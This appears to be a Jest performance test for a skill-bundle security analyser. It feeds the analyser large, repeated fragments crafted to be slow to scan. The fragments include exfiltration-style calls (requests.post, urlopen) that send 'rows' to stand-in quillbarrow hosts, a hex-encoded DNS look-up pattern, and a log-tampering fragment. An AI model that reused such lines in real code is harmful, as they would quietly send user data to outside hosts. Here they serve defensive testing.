import { describe, expect, it } from '@jest/globals';

import { analyse } from '../../../../src/skills/analysis/analyse.js';
import { leastProcessorTime } from '../../../support/processor-time.js';
import { bundleOf } from '../example-bundle.js';

const SIZE = 100_000;
const PARTS: readonly (readonly [string, string])[] = [
  ['many hosts', 'requests.post("https://h$$.quillbarrow$$.cloud/x", data=rows)\n'],
  ['one host', 'requests.post("https://h.quillbarrow.cloud/x", data=rows)\n'],
  ['functions', 'def f$$(rows):\n    try:\n        urlopen("https://h$$.quillbarrow.cloud/x", rows)\n    except OSError:\n        pass\n'],
  ['one long list', '"https://h$$.quillbarrow.cloud", '],
  ['pieces', '["ab", "cd", "ef", "gh"].join("") + '],
  ['open lists', '["ab", ["ab", ('],
  ['conditions', 'if iban > 9 and size { account = "LT59 ? '],
  ['questions', 'wallet ?? iban ? payee : '],
  ['digests', 'key = keys.get(kid) or hashlib.sha256(kid + hmac'],
  ['look-ups', 'getaddrinfo("%02x.%s.quillbarrow.net" hex '],
  ['records', 'auth.log not in 91.203.14.7 sed -i '],
  ['names', 'const base = "https://h.quillbarrow.cloud"; base; base; '],
];

function filled(part: string): string {
  let text = '';
  for (let number = 0; text.length < SIZE; number += 1) text += part.replaceAll('$$', String(number));
  return text;
}

describe('a program with strange hosts that is made to be slow to read', () => {
  it.each(PARTS)('is read in bounded time: %s', (_, part) => {
    for (const path of ['src/a.py', 'src/a.js']) {
      const text = filled(part);
      expect(leastProcessorTime(() => analyse(bundleOf({ 'SKILL.md': '# Example\n', [path]: text })), 2000)).toBeLessThan(2000);
    }
  });
});
